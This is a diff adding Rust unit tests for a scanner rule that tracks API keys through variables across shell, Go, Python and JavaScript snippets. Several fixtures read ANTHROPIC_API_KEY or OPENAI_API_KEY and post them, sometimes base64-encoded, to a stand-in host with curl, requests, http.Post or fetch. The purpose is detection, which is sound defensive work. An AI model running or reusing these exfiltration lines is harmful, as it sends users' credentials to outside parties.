@@ -85,3 +85,107 @@ fn the_name_an_assignment_sets_is_not_read_by_it() {
     assert_eq!(code::overwritten("x == 1"), None);
     assert_eq!(code::overwritten("send(x)"), None);
 }
+
+#[test]
+fn shell_and_go_functions_keep_their_declared_names() {
+    // Shell: each function declares its key `local`, and sends it to its own vendor.
+    let sh = "#!/usr/bin/env bash\n\
+              ask_claude() {\n  local key=\"$ANTHROPIC_API_KEY\"\n  \
+              curl -s https://api.anthropic.com/v1/messages -H \"x-api-key: $key\" -d \"$1\"\n}\n\n\
+              ask_gpt() {\n  local key=\"$OPENAI_API_KEY\"\n  \
+              curl -s https://api.openai.com/v1/responses -H \"Authorization: Bearer $key\" -d \"$1\"\n}\n";
+    assert_eq!(worst(&[("scripts/llm.sh", sh)], RULE), None);
+    // Go: `:=` inside each function.
+    let go = "package main\n\nimport (\n\t\"net/http\"\n\t\"os\"\n\t\"strings\"\n)\n\n\
+              func claude(p string) {\n\tkey := os.Getenv(\"ANTHROPIC_API_KEY\")\n\t\
+              req, _ := http.NewRequest(\"POST\", \"https://api.anthropic.com/v1/messages\", strings.NewReader(p))\n\t\
+              req.Header.Set(\"x-api-key\", key)\n\thttp.DefaultClient.Do(req)\n}\n\n\
+              func gpt(p string) {\n\tkey := os.Getenv(\"OPENAI_API_KEY\")\n\t\
+              req, _ := http.NewRequest(\"POST\", \"https://api.openai.com/v1/responses\", strings.NewReader(p))\n\t\
+              req.Header.Set(\"Authorization\", \"Bearer \"+key)\n\thttp.DefaultClient.Do(req)\n}\n";
+    assert_eq!(worst(&[("cmd/llm.go", go)], RULE), None);
+}
+
+#[test]
+fn shell_and_go_globals_are_still_followed_across_functions() {
+    // Without `local`, a shell function assigns the script's name, which the next one sends.
+    let sh = "#!/bin/sh\n\
+              load() {\n  key=\"$ANTHROPIC_API_KEY\"\n}\n\n\
+              report() {\n  curl -s -d \"k=$key\" https://collect.metrics-relay.example/k\n}\n\
+              load\nreport\n";
+    assert_eq!(worst(&[("scripts/r.sh", sh)], RULE), Some(Critical));
+    // `declare -g` is global too.
+    let g = "#!/bin/bash\n\
+             load() {\n  declare -g key=\"$ANTHROPIC_API_KEY\"\n}\n\n\
+             report() {\n  curl -s -d \"k=$key\" https://collect.metrics-relay.example/k\n}\n\
+             load\nreport\n";
+    assert_eq!(worst(&[("scripts/r.sh", g)], RULE), Some(Critical));
+    // A local one function sends to a foreign host inside itself is still caught.
+    let inside = "#!/bin/bash\n\
+                  report() {\n  local key=\"$ANTHROPIC_API_KEY\"\n  \
+                  curl -s -d \"k=$key\" https://collect.metrics-relay.example/k\n}\nreport\n";
+    assert_eq!(worst(&[("scripts/r.sh", inside)], RULE), Some(Critical));
+    // Go: a package-level variable assigned in one function (`=`, no `:=`) and sent by another.
+    let go = "package main\n\nimport (\n\t\"net/http\"\n\t\"os\"\n\t\"strings\"\n)\n\nvar key string\n\n\
+              func load() {\n\tkey = os.Getenv(\"ANTHROPIC_API_KEY\")\n}\n\n\
+              func report() {\n\thttp.Post(\"https://collect.metrics-relay.example/k\", \"text/plain\", strings.NewReader(key))\n}\n";
+    assert_eq!(worst(&[("cmd/r.go", go)], RULE), Some(Critical));
+}
+
+#[test]
+fn a_requests_answer_does_not_carry_the_key_it_was_sent_with() {
+    // A model's summary, asked with the vendor's own key, posted to a chat.
+    let py = "import os, requests\nkey = os.environ['OPENAI_API_KEY']\n\
+              resp = requests.post('https://api.openai.com/v1/responses', \
+              headers={'Authorization': 'Bearer ' + key}, json={'input': 'sum up'})\n\
+              summary = resp.json()['output']\n\
+              requests.post('https://hooks.slack.com/services/T0/B0/X', json={'text': summary})\n";
+    assert_eq!(worst(&[("scripts/post.py", py)], RULE), None);
+    let sh = "#!/bin/bash\n\
+              out=$(curl -s https://api.anthropic.com/v1/messages -H \"x-api-key: $ANTHROPIC_API_KEY\" -d @req.json)\n\
+              curl -s -X POST -d \"{\\\"text\\\": \\\"$out\\\"}\" https://hooks.slack.com/services/T0/B0/X\n";
+    assert_eq!(worst(&[("scripts/post.sh", sh)], RULE), None);
+}
+
+#[test]
+fn a_key_sent_away_or_transformed_first_is_still_caught() {
+    // The request that carries the key to a foreign host is itself the sink.
+    let direct = "import os, requests\nkey = os.environ['OPENAI_API_KEY']\n\
+                  resp = requests.post('https://collect.metrics-relay.example/k', data={'k': key})\n";
+    assert_eq!(worst(&[("scripts/r.py", direct)], RULE), Some(Critical));
+    // Encoded on one line (no request there), sent on the next.
+    let encoded = "import os, base64, requests\nkey = os.environ['OPENAI_API_KEY']\n\
+                   blob = base64.b64encode(key.encode())\n\
+                   requests.post('https://collect.metrics-relay.example/k', data=blob)\n";
+    assert_eq!(worst(&[("scripts/r.py", encoded)], RULE), Some(Critical));
+    // The key and a request on one line that keeps the key too: still followed.
+    let shell = "#!/bin/sh\nK=\"$OPENAI_API_KEY\"\n\
+                 curl -s https://collect.metrics-relay.example/k -d \"k=$K\"\n";
+    assert_eq!(worst(&[("scripts/r.sh", shell)], RULE), Some(Critical));
+}
+
+#[test]
+fn blocks_pass_out_the_names_they_set_and_not_what_they_reset() {
+    // JS: a global name set inside one function, sent by another.
+    let js = "let key;\nfunction load() {\n  key = process.env.ANTHROPIC_API_KEY;\n}\n\
+              function report() {\n  fetch('https://collect.metrics-relay.example/k', \
+              {method: 'POST', body: key});\n}\nload();\nreport();\n";
+    assert_eq!(worst(&[("scripts/r.js", js)], RULE), Some(Critical));
+    // Shell functions without `local`, each setting `key` anew before sending it to its vendor.
+    let sh = "#!/bin/bash\n\
+              ask_claude() {\n  key=\"$ANTHROPIC_API_KEY\"\n  \
+              curl -s https://api.anthropic.com/v1/messages -H \"x-api-key: $key\" -d \"$1\"\n}\n\n\
+              ask_gpt() {\n  key=\"$OPENAI_API_KEY\"\n  \
+              curl -s https://api.openai.com/v1/responses -H \"Authorization: Bearer $key\" -d \"$1\"\n}\n";
+    assert_eq!(worst(&[("scripts/llm.sh", sh)], RULE), None);
+    // A block that reads the old value first still carries it.
+    let reads = "#!/bin/bash\nkey=\"$ANTHROPIC_API_KEY\"\n\
+                 report() {\n  curl -s -d \"k=$key\" https://collect.metrics-relay.example/k\n  \
+                 key=\"\"\n}\nreport\n";
+    assert_eq!(worst(&[("scripts/r.sh", reads)], RULE), Some(Critical));
+    // A declared name inside a block is the block's own.
+    let own = "function load() {\n  const key = process.env.ANTHROPIC_API_KEY;\n  return 1;\n}\n\
+               function report() {\n  fetch('https://collect.metrics-relay.example/k', \
+               {method: 'POST', body: key});\n}\n";
+    assert_eq!(worst(&[("scripts/r.js", own)], RULE), None);
+}
